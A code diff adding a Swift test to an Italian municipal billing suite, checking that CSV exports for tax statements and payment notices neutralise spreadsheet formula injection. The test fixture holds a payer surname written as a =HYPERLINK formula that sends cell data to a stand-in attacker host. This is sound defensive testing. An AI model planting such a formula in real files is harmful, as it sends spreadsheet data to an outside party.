@@ -3,6 +3,7 @@ import Testing
 @testable import SpuntaBilling
 import SpuntaDomain
 import SpuntaExchange
+import SpuntaServerStore
 import SpuntaStore
 
 @Suite("Prepaid credit, payments, reminders, outbox, tax statement")
@@ -190,6 +191,36 @@ struct PrepaidAndPaymentsTests {
         #expect(!rows.contains { $0.payerId == "PA" }, "paid in 2027")
         let csvOut = TaxStatement.csv(rows, year: 2026)
         #expect(csvOut.hasPrefix("anno;codice_fiscale_pagante"))
+    }
+
+    @Test("a payer named =HYPERLINK(…) reaches the tax statement and the notices' CSV as text, never as a live formula")
+    func formulaNeutralised() throws {
+        let c = try SmallComune()
+        let nav = try issuedOctober(c)
+        // The office's contacts spreadsheet renames PB: the text is not a control character, so the import takes it.
+        let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Rossi\")"
+        var payersCSV = ["id;fiscal-code;surname;given-name"]
+        for p in try c.queue.read({ try MasterDataStore.load($0) }).payers {
+            let surname = p.id == "PB" ? formula : p.surname
+            payersCSV.append("\(p.id);\(p.fiscalCode);\"\(surname.replacingOccurrences(of: "\"", with: "\"\""))\";\(p.givenName)")
+        }
+        let payers = c.path("payers.csv")
+        try Data(payersCSV.joined(separator: "\n").utf8).write(to: URL(fileURLWithPath: payers))
+        #expect(try MasterDataImporter.run(c.queue, paths: [payers]).updated["payers"] == 1)
+        let payments = c.path("p.csv")
+        try Data("date;amount;notice;kind;payer;beneficiary;service;method;reference\n2026-11-02;356.67;\(nav["PB"]!);notice;;;;bank;R1\n".utf8)
+            .write(to: URL(fileURLWithPath: payments))
+        _ = try c.queue.write { try PaymentImport.run($0, path: payments, actor: "t", now: SmallComune.now) }
+
+        let tax = TaxStatement.csv(try c.queue.read { try TaxStatement.rows($0, year: 2026) }, year: 2026)
+        let notices = try c.queue.read { try NoticeExport.csv($0, period: SmallComune.october) }
+        for (name, csv) in [("tax", tax), ("notices", notices)] {
+            let table = try CSVTable.parse(Data(csv.utf8), file: name).get()
+            let cells = table.records.flatMap(\.fields)
+            #expect(cells.contains { $0.hasPrefix("'=HYPERLINK(\"http://evil.example/") }, "\(name): \(csv)")
+            #expect(!cells.contains { ["=", "+", "@", "\t", "\r"].contains($0.first.map(String.init) ?? "") }, "\(name): \(csv)")
+            #expect(!csv.contains(";=HYPERLINK") && !csv.contains(";\"=HYPERLINK"), "\(name): \(csv)")
+        }
     }
 
     @Test("a payment shared among lines in proportion adds up to the cent, largest remainders first")
